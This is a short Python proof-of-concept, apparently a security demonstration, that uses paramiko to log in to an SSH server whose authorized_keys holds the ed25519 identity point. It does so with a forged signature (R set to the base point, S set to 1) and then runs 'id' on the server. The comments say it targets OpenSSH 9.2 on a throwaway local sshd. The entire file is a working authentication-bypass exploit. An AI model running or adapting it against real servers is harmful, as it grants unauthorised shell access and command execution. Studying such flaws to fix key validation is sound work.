# Demonstration (not a pytest test): with the ed25519 identity point in authorized_keys, OpenSSH 9.2
# accepts the forged signature R=B, S=1 for any session. Used against a throwaway sshd on 127.0.0.1:22808
# (AuthorizedKeysFile holding "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA").
import struct

import paramiko
from paramiko.message import Message


def s(b):
    return struct.pack(">I", len(b)) + b


A = b"\x01" + b"\x00" * 31  # identity point: the "public key" the portal accepted
R = bytes.fromhex("58" + "66" * 31)  # encoding of the base point B = [1]B
S = (1).to_bytes(32, "little")


class Forged(paramiko.Ed25519Key):
    def __init__(self):
        self.public_blob = None
        self._signing_key = None
        self._verifying_key = None

    def get_name(self):
        return "ssh-ed25519"

    def asbytes(self):
        return s(b"ssh-ed25519") + s(A)

    def can_sign(self):
        return True

    def sign_ssh_data(self, data, algorithm=None):
        m = Message()
        m.add_string("ssh-ed25519")
        m.add_string(R + S)
        return m


t = paramiko.Transport(("127.0.0.1", 22808))
t.start_client(timeout=5)
try:
    t.auth_publickey("atk8u", Forged())
except Exception as e:  # noqa: BLE001
    print("auth error:", type(e).__name__, e)
print("authenticated:", t.is_authenticated())
if t.is_authenticated():
    ch = t.open_session()
    ch.exec_command("id")
    print(ch.recv(200).decode())
t.close()
